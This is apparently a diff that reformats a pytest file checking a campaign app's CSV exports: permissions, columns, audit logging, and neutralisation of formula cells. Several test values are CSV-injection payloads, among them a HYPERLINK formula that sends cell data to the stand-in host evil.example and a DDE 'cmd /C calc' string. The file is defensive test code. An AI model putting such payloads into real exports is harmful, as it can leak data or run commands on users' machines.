@@ -1,5 +1,6 @@
 """CSV exports: who may take them, what they contain, formula cells neutralised, and every export in the
 audit log."""
+
 from __future__ import annotations
 
 import csv
@@ -22,22 +23,26 @@ def read_csv(response) -> list[list[str]]:
 
 
 def exports_logged() -> list[AuditEvent]:
-    return db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action.like("export.%"))
-                              .order_by(AuditEvent.id)).all()
+    return db.session.scalars(
+        sa.select(AuditEvent).where(AuditEvent.action.like("export.%")).order_by(AuditEvent.id)
+    ).all()
 
 
-@pytest.mark.parametrize("value,expected", [
-    ("=HYPERLINK(\"http://evil.example\",\"click\")", "'=HYPERLINK(\"http://evil.example\",\"click\")"),
-    ("+1+2", "'+1+2"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1", "'\t=1"),
-    ("\r=1", "'\r=1"),
-    ("Lima Group = 14 governments", "Lima Group = 14 governments"),
-    ("", ""),
-    (None, ""),
-    (3, "3"),
-])
+@pytest.mark.parametrize(
+    "value,expected",
+    [
+        ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
+        ("+1+2", "'+1+2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Lima Group = 14 governments", "Lima Group = 14 governments"),
+        ("", ""),
+        (None, ""),
+        (3, "3"),
+    ],
+)
 def test_formula_cells_are_neutralised(value, expected):
     assert neutralise(value) == expected
 
@@ -56,8 +61,12 @@ def test_matrix_export(client, signed_in, demo):
     assert response.headers["Cache-Control"] == "no-store"
     header, *body = read_csv(response)
     assert header[:6] == ["Country", "ISO code", "Rome Statute", "Region", "Stage", "Response"]
-    assert header[6:10] == ["1. Repudiate the election", "1. Repudiate the election: since",
-                            "1. Repudiate the election: evidence", "1. Repudiate the election: source"]
+    assert header[6:10] == [
+        "1. Repudiate the election",
+        "1. Repudiate the election: since",
+        "1. Repudiate the election: evidence",
+        "1. Repudiate the election: source",
+    ]
     assert len(body) == 13
     by_code = {row[1]: dict(zip(header, row, strict=True)) for row in body}
     argentina = by_code["ARG"]
@@ -71,7 +80,11 @@ def test_matrix_export(client, signed_in, demo):
     assert by_code["DEU"]["Outreach record"] == f"http://localhost/outreach/{germany.id}#positions"
     [event] = exports_logged()
     assert (event.action, event.actor_id, event.entity_type, event.entity_id) == (
-        "export.matrix", user.id, "campaign", str(demo.id))
+        "export.matrix",
+        user.id,
+        "campaign",
+        str(demo.id),
+    )
     assert event.after == {"rows": 13, "filters": {}, "format": "csv"}
 
 
@@ -88,13 +101,25 @@ def test_outreach_export(client, signed_in, demo):
     response = client.get(DEMO_URL + "/outreach.csv")
     assert "justice-for-venezuela-2018-outreach-" in response.headers["Content-Disposition"]
     header, *body = read_csv(response)
-    assert header[:8] == ["Country", "ISO code", "Stage", "Priority", "Assigned to", "Coordinator", "Next follow-up",
-                          "Response"]
+    assert header[:8] == [
+        "Country",
+        "ISO code",
+        "Stage",
+        "Priority",
+        "Assigned to",
+        "Coordinator",
+        "Next follow-up",
+        "Response",
+    ]
     by_code = {row[1]: dict(zip(header, row, strict=True)) for row in body}
     assert len(by_code) == 13
     sweden = by_code["SWE"]
     assert (sweden["Stage"], sweden["Priority"], sweden["Assigned to"], sweden["Coordinator"]) == (
-        "Not started", "3", "", "Chris Sample (demo)")
+        "Not started",
+        "3",
+        "",
+        "Chris Sample (demo)",
+    )
     assert by_code["GBR"]["Assigned to"] == "Sam Placeholder (demo)"
     assert by_code["FRA"]["3. ICC referral"] == "Supportive"
     [event] = exports_logged()
@@ -105,12 +130,18 @@ def test_exported_evidence_and_names_cannot_run_as_formulas(client, signed_in, m
     signed_in("manager")
     spain = demo_record(demo, "ESP")
     spain.assignee = make_user("volunteer", name="@SUM(1+1)*cmd|' /C calc'!A0")
-    germany_position = db.session.scalar(sa.select(Position).where(
-        Position.outreach_id == demo_record(demo, "DEU").id))
-    db.session.add(Position(campaign_id=demo.id, outreach_id=spain.id, demand_id=germany_position.demand_id,
-                            stance="opposed", stated_on=germany_position.stated_on,
-                            evidence='=HYPERLINK("http://evil.example/?leak="&A1,"Source")',
-                            evidence_url="-1+1"))
+    germany_position = db.session.scalar(sa.select(Position).where(Position.outreach_id == demo_record(demo, "DEU").id))
+    db.session.add(
+        Position(
+            campaign_id=demo.id,
+            outreach_id=spain.id,
+            demand_id=germany_position.demand_id,
+            stance="opposed",
+            stated_on=germany_position.stated_on,
+            evidence='=HYPERLINK("http://evil.example/?leak="&A1,"Source")',
+            evidence_url="-1+1",
+        )
+    )
     db.session.commit()
     header, *body = read_csv(client.get(DEMO_URL + "/matrix.csv"))
     spain_row = dict(zip(header, next(row for row in body if row[1] == "ESP"), strict=True))
@@ -137,4 +168,7 @@ def test_the_audit_log_keeps_each_export(client, signed_in, demo):
         client.get(DEMO_URL + "/outreach.csv")
     client.get(DEMO_URL + "/matrix.csv?region=019")
     assert [(e.action, e.after["rows"]) for e in exports_logged()] == [
-        ("export.outreach", 13), ("export.outreach", 13), ("export.matrix", 7)]
+        ("export.outreach", 13),
+        ("export.outreach", 13),
+        ("export.matrix", 7),
+    ]
